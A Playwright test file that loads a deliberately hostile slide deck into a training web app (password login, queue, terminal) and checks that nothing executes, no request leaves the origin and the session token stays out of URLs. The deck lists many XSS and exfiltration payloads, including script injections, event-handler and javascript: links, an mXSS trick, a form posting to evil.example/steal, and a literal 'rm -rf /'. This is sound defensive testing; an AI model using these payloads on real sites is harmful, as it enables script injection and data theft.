import AxeBuilder from '@axe-core/playwright';
import type { Browser, BrowserContext } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import { type Served, startServe } from '../server/serve-process.ts';
import { chromiumPath, launch } from './chromium.ts';

/** Everything that a deck may try. */
const hostile = `# Hostile

<script>window.owned = 'script'</script>
<img src=x onerror="window.owned = 'onerror'">
<img src="https://evil.example/pixel.png">
![alt](https://evil.example/markdown.png)
<svg onload="window.owned = 'svg'"><script>window.owned = 'svg script'</script></svg>
<base href="https://evil.example/">
<form action="https://evil.example/steal"><input name="a"><button>Free beer</button></form>
<iframe src="https://evil.example/frame" srcdoc="<script>parent.owned = 'iframe'</script>"></iframe>
<object data="https://evil.example/object"></object><embed src="https://evil.example/embed">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/import.css";</style>
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<p style="background: url(https://evil.example/css.png); position: fixed; inset: 0">text</p>
<video src="https://evil.example/v.mp4" autoplay></video><audio src="https://evil.example/a.mp3" autoplay></audio>
<details open ontoggle="window.owned = 'toggle'"><summary>x</summary></details>
<math><mtext></form><form><mglyph><style></math><img src onerror="window.owned = 'mxss'">

[click me](javascript:window.owned='link') <a href="javascript:window.owned='a'">click me too</a>
<a href="&#106;avascript:window.owned='entity'">and me</a> <a href="data:text/html,<script>1</script>">data</a>

<pre data-region="1" data-exercise data-unit="x"><code>rm -rf /</code></pre>
<div id="course">{"units": []}</div><div id="app"></div><main id="slides"></main>

---
background-image: url(https://evil.example/background.png)");x:url("https://evil.example/b2.png
class: a" onmouseover="window.owned='class'
name: b" onmouseover="window.owned='name'

# Title </script><script>window.owned = 'title'</script>

.exercise[

\`\`\`bash
echo '</script><script>window.owned = "unit"</script>'
\`\`\`

]
`;

describe.skipIf(chromiumPath === undefined)('coming in (skipped without chromium in PATH)', () => {
  let browser: Browser;
  let served: Served;
  let context: BrowserContext;
  beforeAll(async () => {
    [browser, served] = await Promise.all([launch(), startServe(hostile, ['--max-places', '1', '--lang', 'fr'])]);
  }, 60_000);
  afterEach(async () => {
    await context.close();
  });
  afterAll(async () => {
    await browser.close();
    await served.close();
  });

  const open = async (path: string) => {
    context = await browser.newContext({ viewport: { width: 320, height: 640 } });
    context.setDefaultTimeout(20_000);
    const page = await context.newPage();
    const asked: { url: string; referer: string | undefined }[] = [];
    context.on('request', (request) => asked.push({ url: request.url(), referer: request.headers()['referer'] }));
    await page.goto(served.origin + path);
    return { page, asked };
  };

  test('a wrong token is said so, and leaves the address', async () => {
    const { page, asked } = await open('/#token=wrong-token');
    await page.getByRole('alert').filter({ hasText: 'Refusé' }).waitFor();
    expect(page.url()).toBe(`${served.origin}/`);
    expect(
      asked.filter(({ url, referer }) => `${url.replace(/#.*/, '')} ${referer ?? ''}`.includes('wrong-token')),
    ).toEqual([]);
  });

  test('the password form: by label, on 320 pixels, nothing for axe', async () => {
    const { page } = await open('/');
    expect(await page.evaluate(() => document.documentElement.lang)).toBe('fr');
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(320);
    const { violations } = await new AxeBuilder({ page }).analyze();
    expect(violations.map(({ id, nodes }) => [id, nodes[0]?.html])).toEqual([]);
    await page.getByLabel('Votre nom').fill('Ana');
    await page.getByLabel('Mot de passe').fill('wrong');
    await page.getByRole('button', { name: 'Entrer' }).click();
    await page.getByRole('alert').filter({ hasText: 'Ce n’est pas le mot de passe' }).waitFor();
    await page.getByLabel('Mot de passe').fill('open sesame');
    await page.keyboard.press('Enter');
    await page.locator('.xterm').waitFor({ state: 'attached' });
  });

  test('a name that somebody has needs their code; who waits for a node reads where they are', async () => {
    const { page } = await open('/');
    const form = async (name: string) => {
      await page.getByLabel('Votre nom').fill(name);
      await page.getByLabel('Mot de passe').fill('open sesame');
      await page.keyboard.press('Enter');
    };
    await form('ANA');
    await page.getByRole('alert').filter({ hasText: 'Quelqu’un porte déjà ce nom' }).waitFor();
    await page.getByLabel('Votre code').fill('aaaa-aaaa');
    await page.keyboard.press('Enter');
    await page.getByRole('alert').filter({ hasText: 'Ce n’est pas le code' }).waitFor();
    await page.getByLabel('Votre code').fill('');
    await form('Bruno');
    await page.getByText('Vous êtes en position 1 sur 1').waitFor();
  });

  test('a hostile deck: nothing runs, nothing leaves, and the token is not in the address', async () => {
    const { page, asked } = await open(`/#token=${served.token}`);
    await page.locator('.xterm').waitFor({ state: 'attached' });
    expect(page.url()).not.toContain(served.token);
    expect(asked.filter(({ url }) => new URL(url).hash === '' && url.includes(served.token))).toEqual([]);
    await page.setViewportSize({ width: 1280, height: 720 });
    // A placeholder leads to what is not shown: the address can be read, and whoever clicks leaves by another window.
    const ways = await page.$$eval('#slides .left-out a', (all) =>
      all.map((way) => [
        way.textContent,
        way.getAttribute('href'),
        way.getAttribute('rel'),
        way.getAttribute('target'),
      ]),
    );
    expect(ways.length).toBeGreaterThan(2);
    for (const [text, ...rest] of ways) expect(rest).toEqual([text, 'noopener noreferrer', '_blank']);
    const links = page.locator('#slides a:not(.left-out a)');
    for (let at = 0; at < (await links.count()); at++) await links.nth(at).dispatchEvent('click');
    await page.keyboard.press('End');
    await page.locator('section.slide').last().hover({ force: true });
    await page.locator('section.slide').last().waitFor();
    expect(await page.evaluate(() => (window as unknown as { owned?: string }).owned)).toBeUndefined();
    expect(asked.map(({ url }) => new URL(url).host).filter((host) => host !== served.host)).toEqual([]);
    expect(asked.map(({ referer }) => referer).filter(Boolean)).toEqual([]);
    expect(page.url().startsWith(served.origin)).toBe(true);
    const forbidden =
      'script, iframe, form, base, object, embed, link, style, meta, svg, math, input, [style]:not(.code), [onerror], [onmouseover]';
    expect(
      await page
        .locator('#slides .slide-content')
        .locator(forbidden)
        .evaluateAll((all) =>
          all
            .filter((each) => each.closest('button, [data-pupitre]') === null && each.closest('.step-bar') === null)
            .map((each) => each.outerHTML.slice(0, 80)),
        ),
    ).toEqual([]);
    const units = await page.evaluate(
      () => JSON.parse(document.querySelector('script#course')?.textContent ?? '{}') as { units: { text: string }[] },
    );
    expect(units.units.map(({ text }) => text)).toEqual([`echo '</script><script>window.owned = "unit"</script>'`]);
  });

  test('a page of another origin on the same machine gets no WebSocket', async () => {
    const { page } = await open('/');
    const other = new URL(served.origin);
    other.port = '1';
    await page.route(`${other.origin}/**`, (route) => route.fulfill({ contentType: 'text/html', body: 'evil' }));
    await page.goto(other.href);
    const code = await page.evaluate(
      (url) =>
        new Promise((done) => {
          new WebSocket(url).onclose = ({ code: closed }) => {
            done(closed);
          };
        }),
      `ws://${served.host}/socket`,
    );
    expect(code).toBe(1006);
  });
});
